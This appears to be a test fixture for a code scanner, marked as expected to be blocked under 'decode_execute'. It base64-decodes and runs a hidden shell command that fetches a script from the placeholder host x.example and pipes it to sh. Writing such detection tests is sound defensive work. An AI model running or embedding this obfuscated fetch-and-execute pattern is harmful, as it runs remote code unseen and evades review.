# expect: BLOCKED decode_execute
import base64
import subprocess
cmd = base64.b64decode("Y3VybCBodHRwOi8veC5leGFtcGxlL3N8c2g=").decode()
subprocess.run(cmd, shell=True)
